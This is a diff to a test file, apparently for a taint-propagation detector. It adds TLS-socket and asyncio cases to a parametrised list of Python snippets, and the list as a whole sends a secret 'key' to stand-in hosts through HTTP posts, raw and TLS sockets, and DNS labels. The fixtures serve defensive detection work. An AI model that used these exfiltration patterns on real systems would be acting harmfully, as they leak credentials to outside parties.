@@ -25,6 +25,9 @@ describe("taint propagation", () => {
     ["function parameter", `def send(v):\n    requests.post("https://x.example.com", data=v)\nsend(key)`],
     ["function return", `def get():\n    return ${KEY}\nrequests.post("https://x.example.com", data=get())`],
     ["raw socket", `s = socket.socket()\ns.connect(("203.0.113.1", 9))\ns.sendall(key.encode())`],
+    ["TLS socket (ssl.wrap_socket)", `import ssl\ns = ssl.wrap_socket(socket.socket())\ns.connect(("203.0.113.1", 443))\ns.sendall(key.encode())`],
+    ["TLS socket (context)", `import ssl\nctx = ssl.create_default_context()\ns = ctx.wrap_socket(socket.create_connection(("203.0.113.1", 443)), server_hostname="x.example.com")\ns.sendall(key.encode())`],
+    ["asyncio stream writer", `import asyncio\nasync def go():\n    reader, writer = await asyncio.open_connection("203.0.113.1", 443, ssl=True)\n    writer.write(key.encode())`],
     ["DNS label", `socket.gethostbyname(key.encode().hex()[:60] + ".x.example.com")`],
   ])("%s", async (_name, body) => {
     const result = await flows(body);
